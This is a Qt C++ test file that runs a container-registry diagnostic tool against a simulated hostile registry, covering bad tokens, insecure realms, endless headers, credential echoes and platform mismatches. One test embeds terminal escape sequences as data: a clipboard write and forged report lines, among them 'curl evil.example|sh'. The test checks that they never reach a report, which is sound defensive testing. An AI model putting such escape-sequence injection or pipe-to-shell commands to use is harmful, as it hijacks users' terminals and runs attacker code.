    QCOMPARE(STATUS_OF(d, "permissions"), ProbeStatus::Pass);
    QCOMPARE(causeIds(d), QStringList());
}

void FaultMatrixTest::expiredJwtAccessToken_registryRefusesIt_registryUnavailable()
{
    behaveWell(*m_registry);
    m_registry->routeAuthorized("/oauth2/token", HostileReply::answer(200, {{"Content-Type", "application/json"}},
                                                                      tokenJson(accessToken(QDateTime::currentDateTimeUtc().addSecs(-3600)))));
    // The registry refuses the expired token, as ACR does.
    m_registry->routeAuthorized("/v2/", HostileReply::answer(401, {{"WWW-Authenticate", kChallenge}}, R"({"errors":[{"code":"UNAUTHORIZED"}]})"));
    const Diagnosis d = run(options(*m_registry), kQuick);
    QCOMPARE(STATUS_OF(d, "credentials"), ProbeStatus::Fail);
    QCOMPARE(EVIDENCE_OF(d, "credentials", "reason").toString(), QStringLiteral("token-refused"));
    QCOMPARE(EVIDENCE_OF(d, "credentials", "tokenExpired").toBool(), true);
    QCOMPARE(causeIds(d), QStringList{QStringLiteral("registry-unavailable")});
}

void FaultMatrixTest::realmOnPlainHttp_noCredentialsSent_registryUnavailable()
{
    HostileServer plain(HostileServer::Transport::Plain);
    QVERIFY(plain.start());
    plain.setFallback(HostileReply::answer(200, {{"Content-Type", "application/json"}}, tokenJson("x")));
    m_registry->route("/v2/", HostileReply::answer(401, {{"WWW-Authenticate",
                                                          R"(Bearer realm="http://contoso.azurecr.io/oauth2/token",service="contoso.azurecr.io")"}}));
    CheckOptions o = options(*m_registry);
    o.connectTo.insert(QStringLiteral("contoso.azurecr.io:80"), plain.address()); // reachable, so sending would show
    const Diagnosis d = run(o, kQuick);
    QCOMPARE(STATUS_OF(d, "credentials"), ProbeStatus::Fail);
    QCOMPARE(EVIDENCE_OF(d, "credentials", "reason").toString(), QStringLiteral("insecure-realm"));
    QCOMPARE(causeIds(d), QStringList{QStringLiteral("registry-unavailable")});
    QCOMPARE(plain.connectionCount(), 0);
    QCOMPARE(plain.requests().size(), 0);
}

void FaultMatrixTest::realmOnAnotherHttpsHost_tokenFetchedThere()
{
    // Docker does the same (Docker Hub's realm is auth.docker.io): an https realm on another host
    // whose certificate is valid gets the password; see docs/robustness.md.
    HostileServer auth(HostileServer::Transport::Tls, {QStringLiteral("auth.contoso.example")});
    QVERIFY(auth.start());
    behaveWell(*m_registry);
    m_registry->route("/v2/", HostileReply::answer(401, {{"WWW-Authenticate",
                                                          R"(Bearer realm="https://auth.contoso.example/token",service="contoso.azurecr.io")"}}));
    auth.setFallback(HostileReply::answer(200, {{"Content-Type", "application/json"}},
                                          tokenJson(accessToken(QDateTime::currentDateTimeUtc().addSecs(3600)))));
    CheckOptions o = options(*m_registry);
    o.connectTo.insert(QStringLiteral("auth.contoso.example:443"), auth.address());
    const Diagnosis d = run(o, kQuick);
    QCOMPARE(STATUS_OF(d, "credentials"), ProbeStatus::Pass);
    QCOMPARE(EVIDENCE_OF(d, "credentials", "endpoint").toString(), QStringLiteral("https://auth.contoso.example/token"));
    QCOMPARE(auth.requestsTo("/token").size(), 1);
    QCOMPARE(auth.requestsTo("/token").first().authorizationScheme, QByteArray("Basic"));
    QCOMPARE(m_registry->requestsTo("/oauth2/token").size(), 0);
    QCOMPARE(causeIds(d), QStringList());
}

void FaultMatrixTest::relayedRequest_stillNamesTheRegistryInTls()
{
    // Requests go through a loopback relay (byte_budget_relay.h), so Qt connects to 127.0.0.1: the
    // ClientHello must still carry the registry's name (SNI), or a real registry's front end fails.
    m_registry = std::make_unique<HostileServer>(HostileServer::Transport::Tls);
    m_registry->setHandshake(HostileServer::Handshake::NeverServerHello);
    QVERIFY(m_registry->start());
    CheckContext ctx;
    ctx.options = options(*m_registry);
    QNetworkAccessManager nam;
    ctx.network = &nam;
    HttpExchange exchange;
    QSignalSpy done(&exchange, &HttpExchange::finished);
    exchange.get(ctx, QUrl(QStringLiteral("https://contoso.azurecr.io/v2/")));
    QVERIFY(done.wait(kOneTimeout));
    QVERIFY2(m_registry->clientHello().contains("contoso.azurecr.io"), m_registry->clientHello().toHex().constData());
    const HttpAnswer a = done.first().first().value<HttpAnswer>();
    QCOMPARE(a.answered, false);
    QCOMPARE(a.networkErrorCode, int(QNetworkReply::TimeoutError));
}

// The connections that carried `requests`, by number.
static QSet<int> connectionsOf(const QList<rd::test::ReceivedRequest> &requests)
{
    QSet<int> numbers;
    for (const auto &r : requests)
        numbers.insert(r.connection);
    return numbers;
}

void FaultMatrixTest::keepAliveRegistry_signInOverOneConnection()
{
    // A registry that keeps connections open, as real ones do: the sign-in's requests (the
    // challenge, the token, the registry with the token) reuse one TLS connection, as Docker's
    // client does, instead of one handshake each (each request once had a relay of its own, so Qt
    // could not reuse anything). The TLS probe's own handshake is separate.
    m_registry->setKeepAlive(true);
    behaveWell(*m_registry);
    CheckOptions o = options(*m_registry);
    o.onlyProbes = QStringList{QStringLiteral("credentials")}; // what "check --all" runs
    const Diagnosis d = run(o, kQuick);
    QCOMPARE(causeIds(d), QStringList());
    QCOMPARE(STATUS_OF(d, "credentials"), ProbeStatus::Pass);
    const QList<rd::test::ReceivedRequest> requests = m_registry->requests();
    QCOMPARE(requests.size(), 3);
    QCOMPARE(requests.at(1).path, QByteArray("/oauth2/token"));
    QCOMPARE(requests.at(2).authorizationScheme, QByteArray("Bearer"));
    QCOMPARE(connectionsOf(requests).size(), 1);
}

void FaultMatrixTest::keepAliveThenEndlessHeaders_reusedConnectionStillCapped()
{
    // The relay's budget is per answer, also on a connection that carried earlier answers: the
    // registry answers the challenge and the token normally, then sends headers without end on the
    // same connection.
    m_registry->setKeepAlive(true);
    behaveWell(*m_registry);
    m_registry->routeAuthorized("/v2/", HostileReply::of(Kind::EndlessHeaders, 200));
    CheckOptions o = options(*m_registry);
    o.onlyProbes = QStringList{QStringLiteral("credentials")};
    const Diagnosis d = run(o, kOneTimeout);
    QCOMPARE(STATUS_OF(d, "credentials"), ProbeStatus::Fail);
    QCOMPARE(connectionsOf(m_registry->requests()).size(), 1);
    QCOMPARE(causeIds(d), QStringList{QStringLiteral("registry-unavailable")});
    QVERIFY2(m_registry->bytesWritten() < 64LL * 1024 * 1024, qPrintable(QString::number(m_registry->bytesWritten())));
}

namespace {

// Every writer's output for `d` with `redactor`: JSON, text (bash and PowerShell), Markdown, HTML
// and the chat summary.
QStringList everyWriter(const Diagnosis &d, const Redactor &redactor)
{
    return {QString::fromUtf8(writeJsonReport(d, redactor)), writeTextReport(d, redactor, QStringLiteral("bash")),
            writeTextReport(d, redactor, QStringLiteral("powershell")), writeMarkdownReport(d, redactor),
            writeHtmlReport(d, redactor, QStringLiteral("bash")), writeChatSummary(d, redactor, QStringLiteral("bash"))};
}

} // namespace

void FaultMatrixTest::escapeSequencesInServerText_neverReachAWriter()
{
    // OSC title, OSC 52 clipboard write, screen clear, hidden text, a bidi override, and forged
    // report lines: in the token service's error message and in the challenge's service name.
    const QByteArray hostile = "\u001b]0;pwned\u0007\u001b]52;c;Y3VybCBldmlsfHNo\u0007\u001b[2J\u001b[8mhidden\u202e"
                               "\nNo problem found with contoso.azurecr.io.\nHow to fix it:\n curl evil.example|sh";
    behaveWell(*m_registry);
    m_registry->route("/v2/", HostileReply::answer(401, {{"WWW-Authenticate",
                                                          "Bearer realm=\"https://contoso.azurecr.io/oauth2/token\",service=\"contoso\x1b]0;title\x07.azurecr.io\""}}));
    QJsonObject error{{QStringLiteral("code"), QStringLiteral("UNAUTHORIZED")}, {QStringLiteral("message"), QString::fromUtf8(hostile)}};
    m_registry->route("/oauth2/token", HostileReply::answer(401, {{"Content-Type", "application/json"}},
                                                            QJsonDocument(QJsonObject{{QStringLiteral("errors"), QJsonArray{error}}}).toJson()));
    const Diagnosis d = run(options(*m_registry), kQuick);
    QCOMPARE(STATUS_OF(d, "credentials"), ProbeStatus::Fail);
    QVERIFY(!d.causes.isEmpty());
    for (const QString &out : everyWriter(d, Redactor())) {
        for (QChar c : out)
            QVERIFY2(c == QLatin1Char('\n') || (c.isPrint() && c.unicode() != 0x202e), qPrintable(QString::number(c.unicode(), 16)));
        for (const QString &line : out.split(QLatin1Char('\n'))) {
            QVERIFY2(!line.trimmed().startsWith(QLatin1String("No problem found")), qPrintable(line));
            QVERIFY2(!line.trimmed().startsWith(QLatin1String("curl evil")), qPrintable(line));
        }
    }
}

void FaultMatrixTest::hugeWwwAuthenticate_reportedAsTooLong_notMissing()
{
    const QByteArray huge = "Bearer realm=\"https://contoso.azurecr.io/oauth2/token\",service=\"" + QByteArray(200 * 1024, 'a') + '"';
    m_registry->route("/v2/", HostileReply::answer(401, {{"WWW-Authenticate", huge}}));
    const Diagnosis d = run(options(*m_registry), kQuick);
    QCOMPARE(STATUS_OF(d, "challenge"), ProbeStatus::Fail);
    QVERIFY2(!DETAIL_OF(d, "challenge").contains(QStringLiteral("no WWW-Authenticate")), qPrintable(DETAIL_OF(d, "challenge")));
    QVERIFY2(DETAIL_OF(d, "challenge").contains(QStringLiteral("too long")), qPrintable(DETAIL_OF(d, "challenge")));
    QVERIFY(EVIDENCE_OF(d, "challenge", "wwwAuthenticate").toString().size() <= 512);
}

void FaultMatrixTest::registryAtLoopbackAddress_hostHeaderWithoutTheRelayPort()
{
    m_registry = std::make_unique<HostileServer>(HostileServer::Transport::Tls, QStringList{QStringLiteral("127.0.0.1")});
    QVERIFY(m_registry->start());
    m_registry->route("/v2/", HostileReply::answer(200, {{"Content-Type", "application/json"}}, "{}"));
    CheckOptions o = options(*m_registry);
    o.registryInput = QStringLiteral("127.0.0.1");
    o.connectTo.clear();
    o.connectTo.insert(QStringLiteral("127.0.0.1:443"), m_registry->address());
    run(o, kQuick);
    QVERIFY(!m_registry->requestsTo("/v2/").isEmpty());
    QCOMPARE(m_registry->requestsTo("/v2/").first().host, QByteArray("127.0.0.1"));
}

void FaultMatrixTest::ipv6LiteralRegistry_isAnAddress_notAName()
{
    // Docker accepts "[::1]:5000"; it was reported as "the name [::1] does not exist".
    m_registry = std::make_unique<HostileServer>(HostileServer::Transport::Tls, QStringList{QStringLiteral("::1")});
    QVERIFY(m_registry->start());
    m_registry->route("/v2/", HostileReply::answer(200, {{"Content-Type", "application/json"}}, "{}"));
    CheckOptions o = options(*m_registry);
    o.registryInput = QStringLiteral("[::1]:5000");
    o.connectTo.clear();
    o.connectTo.insert(QStringLiteral("::1:5000"), m_registry->address());
    const Diagnosis d = run(o, kQuick);
    QCOMPARE(STATUS_OF(d, "dns"), ProbeStatus::Pass);
    QVERIFY2(!DETAIL_OF(d, "dns").contains(QStringLiteral("does not exist")), qPrintable(DETAIL_OF(d, "dns")));
    QCOMPARE(STATUS_OF(d, "tls"), ProbeStatus::Pass);
    QCOMPARE(STATUS_OF(d, "challenge"), ProbeStatus::Pass);
    QCOMPARE(m_registry->requestsTo("/v2/").value(0).host, QByteArray("[::1]:5000"));
}

void FaultMatrixTest::serverEchoesTheCredential_inEveryEncoding_neverInAReport()
{
    // The credential the check sent must never come back out, whatever the server echoes: its
    // token service answers 401 with the password and user:password in every common encoding.
    const QByteArray user = "fault-user";
    const QByteArray password = "P<a&s's/+?# \"9";
    const QByteArray pair = user + ':' + password;
    QList<QByteArray> forms{password, pair.toBase64(), pair.toBase64(QByteArray::OmitTrailingEquals),
                            pair.toBase64(QByteArray::Base64UrlEncoding | QByteArray::OmitTrailingEquals),
                            password.toBase64(), password.toPercentEncoding(), pair.toPercentEncoding(),
                            QString::fromUtf8(password).toHtmlEscaped().toUtf8(), password.toHex(), pair.toHex()};
    QByteArray echo;
    for (const QByteArray &f : forms)
        echo += "[" + f + "] ";
    QJsonObject error{{QStringLiteral("code"), QStringLiteral("UNAUTHORIZED")}, {QStringLiteral("message"), QString::fromUtf8(echo)}};
    behaveWell(*m_registry);
    m_registry->route("/oauth2/token", HostileReply::answer(401, {{"Content-Type", "application/json"}},
                                                            QJsonDocument(QJsonObject{{QStringLiteral("errors"), QJsonArray{error}}}).toJson()));
    CheckOptions o = options(*m_registry);
    o.password = Secret(password);
    Check check(o);
    QSignalSpy done(&check, &Check::finished);
    check.start();
    QVERIFY(done.wait(int(kQuick) + 5000));
    const Diagnosis d = check.diagnosis();
    QCOMPARE(m_registry->requestsTo("/oauth2/token").value(0).authorizationScheme, QByteArray("Basic"));
    const Redactor redactor(check.context());
    forms << QString::fromUtf8(password).toHtmlEscaped().replace(QLatin1Char('\''), QStringLiteral("&#39;")).toUtf8();
    for (const QString &out : everyWriter(d, redactor))
        for (const QByteArray &f : std::as_const(forms))
            QVERIFY2(!out.toUtf8().contains(f), f.toHex().constData());
}

void FaultMatrixTest::manifestMissing_repositoryNotFound_notUnauthorized()
{
    behaveWell(*m_registry);
    const QByteArray notFound = R"({"errors":[{"code":"NAME_UNKNOWN","message":"repository name not known to registry"}]})";
    m_registry->routeAuthorized("/v2/hello/manifests/latest", HostileReply::answer(404, {{"Content-Type", "application/json"}}));
    m_registry->routeAuthorized("/v2/hello/tags/list", HostileReply::answer(404, {{"Content-Type", "application/json"}}, notFound));
    const Diagnosis d = run(options(*m_registry), kQuick);
    QCOMPARE(causeIds(d), QStringList{QStringLiteral("repository-not-found")});
    QCOMPARE(STATUS_OF(d, "manifest"), ProbeStatus::Fail);
    QVERIFY2(DETAIL_OF(d, "manifest").contains(QStringLiteral("contoso.azurecr.io/hello:latest")), qPrintable(DETAIL_OF(d, "manifest")));
    // The manifest was asked for as a client asks, with the token.
    // (The layer probe's GET of the same manifest runs alongside and may arrive first.)
    const QList<rd::test::ReceivedRequest> requests = m_registry->requestsTo("/v2/hello/manifests/latest");
    const auto head = std::find_if(requests.cbegin(), requests.cend(),
                                   [](const rd::test::ReceivedRequest &r) { return r.method == QByteArray("HEAD"); });
    QVERIFY(head != requests.cend());
    QCOMPARE(head->authorizationScheme, QByteArray("Bearer"));
}

void FaultMatrixTest::blobRedirectToBlockedHost_dataEndpointBlocked()
{
    behaveWell(*m_registry);
    m_registry->routeAuthorized("/v2/hello/blobs/" + kLayerDigest,
                                HostileReply::answer(307, {{"Location", "https://" + kDataHost + "/blobs/4f?se=2030&sig=" + kCanary}}));
    CheckOptions o = options(*m_registry);
    o.connectTo.insert(QString::fromLatin1(kDataHost) + QStringLiteral(":443"), QStringLiteral("127.0.0.1:%1").arg(HostileServer::closedPort()));
    const Diagnosis d = run(o, kQuick);
    QCOMPARE(causeIds(d), QStringList{QStringLiteral("data-endpoint-blocked")});
    QCOMPARE(STATUS_OF(d, "layer-download"), ProbeStatus::Fail);
    QVERIFY2(DETAIL_OF(d, "layer-download").contains(QString::fromLatin1(kDataHost)), qPrintable(DETAIL_OF(d, "layer-download")));
    QCOMPARE(STATUS_OF(d, "manifest"), ProbeStatus::Pass);
    // The smallest layer was asked for, not the large one.
    QCOMPARE(m_registry->requestsTo("/v2/hello/blobs/sha256:big").size(), 0);
}

void FaultMatrixTest::blobRedirectToReachableHost_layerDownloads_signatureNeverShown()
{
    behaveWell(*m_registry);
    HostileServer data(HostileServer::Transport::Tls, {QString::fromLatin1(kDataHost)});
    QVERIFY(data.start());
    data.route("/blobs/4f", HostileReply::answer(206, {{"Content-Type", "application/octet-stream"}}, "layer"));
    m_registry->routeAuthorized("/v2/hello/blobs/" + kLayerDigest,
                                HostileReply::answer(307, {{"Location", "https://" + kDataHost + "/blobs/4f?se=2030&sig=" + kCanary}}));
    CheckOptions o = options(*m_registry);
    o.connectTo.insert(QString::fromLatin1(kDataHost) + QStringLiteral(":443"), data.address());
    const Diagnosis d = run(o, kQuick);
    QCOMPARE(causeIds(d), QStringList());
    QCOMPARE(STATUS_OF(d, "layer-download"), ProbeStatus::Pass);
    const QList<rd::test::ReceivedRequest> got = data.requestsTo("/blobs/4f");
    QCOMPARE(got.size(), 1);
    QVERIFY(got.first().query.contains("sig="));      // the signed address was followed whole
    QVERIFY(!got.first().hasAuthorization);            // and the registry's token stayed at the registry
    // verifyNoSecret (in run) already checked that the signature (the canary) is in no report.
}

void FaultMatrixTest::uploadRefused_onPush_notAuthorized()
{
    behaveWell(*m_registry);
    m_registry->routeAuthorized("/v2/hello/blobs/uploads/",
                                HostileReply::answer(403, {{"Content-Type", "application/json"}},
                                                     R"({"errors":[{"code":"DENIED","message":"requested access to the resource is denied"}]})"));
    CheckOptions o = options(*m_registry);
    o.action = QStringLiteral("push");
    const Diagnosis d = run(o, kQuick);
    QCOMPARE(STATUS_OF(d, "blob-upload"), ProbeStatus::Fail);
    QVERIFY(causeIds(d).contains(QStringLiteral("credentials-not-authorized")));
    QCOMPARE(m_registry->requestsTo("/v2/hello/blobs/uploads/").value(0).method, QByteArray("POST"));
}

void FaultMatrixTest::realmOnAnotherHostRefused_tokenServiceMisconfigured()
{
    // A self-hosted registry whose token realm names a service that is not running.
    behaveWell(*m_registry);
    m_registry->route("/v2/", HostileReply::answer(401, {{"WWW-Authenticate",
                                                          R"(Bearer realm="https://auth.contoso.example:5001/token",service="contoso.azurecr.io")"}}));
    CheckOptions o = options(*m_registry);
    o.connectTo.insert(QStringLiteral("auth.contoso.example:5001"), QStringLiteral("127.0.0.1:%1").arg(HostileServer::closedPort()));
    const Diagnosis d = run(o, kQuick);
    QCOMPARE(STATUS_OF(d, "challenge"), ProbeStatus::Pass);
    QCOMPARE(STATUS_OF(d, "credentials"), ProbeStatus::Fail);
    QCOMPARE(causeIds(d), QStringList{QStringLiteral("token-service-misconfigured")});
}

QTEST_GUILESS_MAIN(FaultMatrixTest)

namespace {

// A DNS responder that answers contoso.azurecr.io with 2001:db8::1 (AAAA) and 127.0.0.1 (A), as a
// dual-stack registry's name resolves; the practice table sends 2001:db8::1 to loopback.
struct DualStackDns
{
    PracticeDnsServer server;
    bool start()
    {
        server.setRecords({DnsRecord::aaaa(QStringLiteral("contoso.azurecr.io"), QHostAddress(QStringLiteral("2001:db8::1"))),
                           DnsRecord::a(QStringLiteral("contoso.azurecr.io"), QHostAddress(QStringLiteral("127.0.0.1")))});
        return server.start();
    }
};

} // namespace

void FaultMatrixTest::ipv6RefusedIpv4Works_ipv6Unreachable_checkGoesOn()
{
    // The registry answers on IPv4 only; its name has an IPv6 address too, where nothing answers.
    DualStackDns dns;
    QVERIFY(dns.start());
    behaveWell(*m_registry);
    CheckOptions o = options(*m_registry);
    o.dnsServer = QStringLiteral("127.0.0.1:%1").arg(dns.server.port());
    o.connectTo.insert(QStringLiteral("2001:db8::1:443"), QStringLiteral("::1:%1").arg(HostileServer::closedPort()));
    o.connectTo.insert(QStringLiteral("127.0.0.1:443"), m_registry->address());
    const Diagnosis d = run(o, kQuick);
    QCOMPARE(STATUS_OF(d, "tcp"), ProbeStatus::Warn);
    QVERIFY2(DETAIL_OF(d, "tcp").contains(QStringLiteral("2001:db8::1")) && DETAIL_OF(d, "tcp").contains(QStringLiteral("127.0.0.1")),
             qPrintable(DETAIL_OF(d, "tcp")));
    QCOMPARE(EVIDENCE_OF(d, "tcp", "ipv6Address").toString(), QStringLiteral("2001:db8::1"));
    QVERIFY(!EVIDENCE_OF(d, "tcp", "ipv6Error").toString().isEmpty());
    QCOMPARE(causeIds(d), QStringList{QStringLiteral("ipv6-unreachable")});
    // The rest of the check went on over IPv4, as a client that falls back does.
    QCOMPARE(STATUS_OF(d, "challenge"), ProbeStatus::Pass);
    QCOMPARE(STATUS_OF(d, "credentials"), ProbeStatus::Pass);
    // The fix compares both families with the addresses the check tried.
    const Cause &c = d.causes.first();
    QVERIFY(!c.remediation.isEmpty());
    const QVector<ShellCommand> ps = c.remediation.first().commandsFor(QStringLiteral("powershell"));
    QVERIFY(!ps.isEmpty());
    QVERIFY2(ps.first().command.contains(QStringLiteral("Test-NetConnection 2001:db8::1 -Port 443"))
                 && ps.first().command.contains(QStringLiteral("Test-NetConnection 127.0.0.1 -Port 443")),
             qPrintable(ps.first().command));
}

void FaultMatrixTest::ipv6AndIpv4Work_noIpv6Finding()
{
    // Both families answer: nothing to report.
    DualStackDns dns;
    QVERIFY(dns.start());
    QTcpServer six;
    if (!six.listen(QHostAddress::LocalHostIPv6, 0))
        QSKIP("this computer has no IPv6 loopback");
    behaveWell(*m_registry);
    CheckOptions o = options(*m_registry);
    o.dnsServer = QStringLiteral("127.0.0.1:%1").arg(dns.server.port());
    o.connectTo.insert(QStringLiteral("2001:db8::1:443"), QStringLiteral("::1:%1").arg(six.serverPort()));
    const Diagnosis d = run(o, kQuick);
    QCOMPARE(STATUS_OF(d, "tcp"), ProbeStatus::Pass);
    QVERIFY(!causeIds(d).contains(QStringLiteral("ipv6-unreachable")));
    QCOMPARE(causeIds(d), QStringList());
}

namespace {

// The Azure CLI stand-in, signed in, reporting `mode` as the registry's role assignment mode; only
// the probes a refusal needs run (no Docker on this computer is looked at).
// These rows are about the advice, not time limits: the Azure CLI gets more time than the 2 s of the
// other rows (a check's default is 20 s), since on Windows az.cmd starts cmd.exe, which starts the
// CLI; under Wine on a busy machine that alone can take 2 s.
constexpr int kAzureCliSeconds = 10;

struct AzureCliStandin
{
    rd::test::StandinBin bin;
    QTemporaryDir home;
    ScopedEnvironment env;
    bool start(const QByteArray &mode, const QByteArray &acrShowError = {})
    {
        if (!bin.isValid() || !home.isValid() || !bin.add(QStringLiteral("az")))
            return false;
        env.set("PATH", bin.path());
        env.set("AZURE_CONFIG_DIR", home.filePath(QStringLiteral("azure")));
        env.set("DOCKER_CONFIG", home.filePath(QStringLiteral("docker")));
        env.set("RD_STANDIN_AZ_ROLE_MODE", mode);
        if (!acrShowError.isEmpty())
            env.set("RD_STANDIN_AZ_ACR_SHOW_ERROR", acrShowError);
        env.set("RD_STANDIN_AZ_LOG", home.filePath(QStringLiteral("az.log")));
        return rd::test::writeFile(home.filePath(QStringLiteral("azure/azureProfile.json")),
                         R"({"subscriptions": [{"id": "aaaaaaaa-0000-0000-0000-000000000002", "name": "Contoso Production", "state": "Enabled", )"
                         R"("user": {"name": "dev@contoso.com", "type": "user"}, "isDefault": true, )"
                         R"("tenantId": "11111111-2222-3333-4444-555555555555", "environmentName": "AzureCloud"}]})");
    }
};

} // namespace

void FaultMatrixTest::refusedOnAbacRegistry_acrAbacLegacyRole_notAcrPull()
{
    AzureCliStandin az;
    QVERIFY(az.start("AbacRepositoryPermissions"));
    behaveWell(*m_registry);
    m_registry->routeAuthorized("/v2/hello/manifests/latest",
                                HostileReply::answer(401, {{"Content-Type", "application/json"}},
                                                     R"({"errors":[{"code":"UNAUTHORIZED","message":"authentication required, visit https://aka.ms/acr/authorization for more information."}]})"));
    CheckOptions o = options(*m_registry);
    o.practiceScenario.clear();
    o.onlyProbes = QStringList{QStringLiteral("acr-role-mode")};
    o.timeoutSeconds = kAzureCliSeconds;
    const Diagnosis d = run(o, kAzureCliSeconds * 1000 + kOneTimeout);
    QCOMPARE(STATUS_OF(d, "manifest"), ProbeStatus::Fail);
    QCOMPARE(STATUS_OF(d, "acr-role-mode"), ProbeStatus::Warn);
    QCOMPARE(EVIDENCE_OF(d, "acr-role-mode", "roleAssignmentMode").toString(), QStringLiteral("AbacRepositoryPermissions"));
    QCOMPARE(causeIds(d), QStringList{QStringLiteral("acr-abac-legacy-role")});
    // The fix names the ABAC role, never AcrPull.
    const Cause &c = d.causes.first();
    QVERIFY(!c.remediation.isEmpty());
    const QString bash = c.remediation.first().commandsFor(QStringLiteral("bash")).value(0).command;
    QVERIFY2(bash.contains(QStringLiteral("--role 'Container Registry Repository Reader'")) && bash.contains(QStringLiteral("az acr show --name contoso")),
             qPrintable(bash));
    QVERIFY(!bash.contains(QStringLiteral("AcrPull")));
    QFile log(az.home.filePath(QStringLiteral("az.log")));
    QVERIFY(log.open(QIODevice::ReadOnly));
    QCOMPARE(log.readAll(), QByteArray("acr\nshow\n--name\ncontoso\n--query\nroleAssignmentMode\n--output\ntsv\n"));
}

void FaultMatrixTest::refusedOnLegacyRegistry_acrPullAdvice()
{
    AzureCliStandin az;
    QVERIFY(az.start("LegacyRegistryPermissions"));
    behaveWell(*m_registry);
    m_registry->routeAuthorized("/v2/hello/manifests/latest", HostileReply::answer(403, {{"Content-Type", "application/json"}}, "{}"));
    CheckOptions o = options(*m_registry);
    o.practiceScenario.clear();
    o.onlyProbes = QStringList{QStringLiteral("acr-role-mode")};
    o.timeoutSeconds = kAzureCliSeconds;
    const Diagnosis d = run(o, kAzureCliSeconds * 1000 + kOneTimeout);
    QVERIFY2(STATUS_OF(d, "acr-role-mode") == ProbeStatus::Pass,
             qPrintable(DETAIL_OF(d, "acr-role-mode") + QStringLiteral(" exit code ") + EVIDENCE_OF(d, "acr-role-mode", "exitCode").toString()));
    QCOMPARE(causeIds(d), QStringList{QStringLiteral("credentials-not-authorized")});
}

void FaultMatrixTest::refusedWhileEntraWantsMfa_mfaRequired()
{
    // What az prints when Conditional Access wants MFA for Azure Resource Manager (az 2.5x, MSAL):
    // the Entra error, its trace lines and az's own hint.
    AzureCliStandin az;
    QVERIFY(az.start({}, "ERROR: AADSTS50076: Due to a configuration change made by your administrator, or because you moved to a new location, "
                         "you must use multi-factor authentication to access '797f4846-ba00-4fd7-ba43-dac1f8f63013'. Trace ID: "
                         "0a1b2c3d-0000-4000-8000-000000000001 Correlation ID: 0a1b2c3d-0000-4000-8000-000000000002 Timestamp: 2026-11-30 09:12:44Z\n"
                         "Interactive authentication is needed. Please run:\n"
                         "az login --scope https://management.core.windows.net//.default"));
    behaveWell(*m_registry);
    m_registry->routeAuthorized("/v2/hello/manifests/latest", HostileReply::answer(403, {{"Content-Type", "application/json"}}, "{}"));
    CheckOptions o = options(*m_registry);
    o.practiceScenario.clear();
    o.onlyProbes = QStringList{QStringLiteral("acr-role-mode")};
    o.timeoutSeconds = kAzureCliSeconds;
    const Diagnosis d = run(o, kAzureCliSeconds * 1000 + kOneTimeout);
    QCOMPARE(STATUS_OF(d, "acr-role-mode"), ProbeStatus::Fail);
    QCOMPARE(EVIDENCE_OF(d, "acr-role-mode", "entraError").toString(), QStringLiteral("AADSTS50076"));
    // The refusal is the answer; the MFA block comes after it, as a note (the sign-in worked, but
    // the next az acr login will fail the same way).
    QCOMPARE(causeIds(d), (QStringList{QStringLiteral("credentials-not-authorized"), QStringLiteral("mfa-required")}));
    QVERIFY(isNote(d.causes.last(), d));
    const QString bash = d.causes.last().remediation.first().commandsFor(QStringLiteral("bash")).value(0).command;
    QVERIFY2(bash.contains(QStringLiteral("az login")), qPrintable(bash));
}

namespace {

// An image index (OCI) with an entry for each of `platforms`, and an attestation entry.
QByteArray indexOf(const QStringList &platforms)
{
    QJsonArray manifests;
    int n = 0;
    for (const QString &p : platforms)
        manifests.append(QJsonObject{{QStringLiteral("mediaType"), QStringLiteral("application/vnd.oci.image.manifest.v1+json")},
                                     {QStringLiteral("digest"), QStringLiteral("sha256:m%1").arg(++n)},
                                     {QStringLiteral("size"), 500},
                                     {QStringLiteral("platform"), QJsonObject{{QStringLiteral("os"), p.section(QLatin1Char('/'), 0, 0)},
                                                                              {QStringLiteral("architecture"), p.section(QLatin1Char('/'), 1)}}}});
    manifests.append(QJsonObject{{QStringLiteral("mediaType"), QStringLiteral("application/vnd.oci.image.manifest.v1+json")},
                                 {QStringLiteral("digest"), QStringLiteral("sha256:att")},
                                 {QStringLiteral("size"), 300},
                                 {QStringLiteral("platform"), QJsonObject{{QStringLiteral("os"), QStringLiteral("unknown")},
                                                                          {QStringLiteral("architecture"), QStringLiteral("unknown")}}}});
    return QJsonDocument(QJsonObject{{QStringLiteral("schemaVersion"), 2},
                                     {QStringLiteral("mediaType"), QStringLiteral("application/vnd.oci.image.index.v1+json")},
                                     {QStringLiteral("manifests"), manifests}})
        .toJson(QJsonDocument::Compact);
}

} // namespace

void FaultMatrixTest::indexWithoutThisPlatform_platformMismatch()
{
    // Every platform but this computer's: a pull here stops with "no matching manifest".
    const QString here = LayerDownloadProbe::clientPlatform();
    QStringList others;
    for (const QString &p : {QStringLiteral("linux/amd64"), QStringLiteral("linux/arm64"), QStringLiteral("windows/amd64")})
        if (p != here)
            others << p;
    behaveWell(*m_registry);
    m_registry->routeAuthorized("/v2/hello/manifests/latest",
                                HostileReply::answer(200, {{"Content-Type", "application/vnd.oci.image.index.v1+json"}}, indexOf(others)));
    const Diagnosis d = run(options(*m_registry), kQuick);
    QCOMPARE(causeIds(d), QStringList{QStringLiteral("platform-mismatch")});
    QCOMPARE(STATUS_OF(d, "manifest"), ProbeStatus::Pass);
    QCOMPARE(STATUS_OF(d, "layer-download"), ProbeStatus::Fail);
    QCOMPARE(EVIDENCE_OF(d, "layer-download", "platform").toString(), here);
    QCOMPARE(EVIDENCE_OF(d, "layer-download", "platforms").toStringList(), others);
    for (const QString &p : std::as_const(others))
        QVERIFY2(DETAIL_OF(d, "layer-download").contains(p), qPrintable(DETAIL_OF(d, "layer-download")));
    QVERIFY(!DETAIL_OF(d, "layer-download").contains(QStringLiteral("unknown")));
}

void FaultMatrixTest::indexWithThisPlatform_layerDownloads()
{
    // The same index with this computer's platform among others: no finding, its layer downloads.
    behaveWell(*m_registry);
    const QStringList platforms{QStringLiteral("windows/amd64"), LayerDownloadProbe::clientPlatform()};
    m_registry->routeAuthorized("/v2/hello/manifests/latest",
                                HostileReply::answer(200, {{"Content-Type", "application/vnd.oci.image.index.v1+json"}}, indexOf(platforms)));
    m_registry->routeAuthorized("/v2/hello/manifests/sha256:m2",
                                HostileReply::answer(200, {{"Content-Type", "application/vnd.oci.image.manifest.v1+json"}}, kManifest));
    const Diagnosis d = run(options(*m_registry), kQuick);
    QCOMPARE(causeIds(d), QStringList());
    QCOMPARE(STATUS_OF(d, "layer-download"), ProbeStatus::Pass);
    QCOMPARE(m_registry->requestsTo("/v2/hello/manifests/sha256:m1").size(), 0); // the Windows entry was not read
}

#include "tst_fault_matrix.moc"
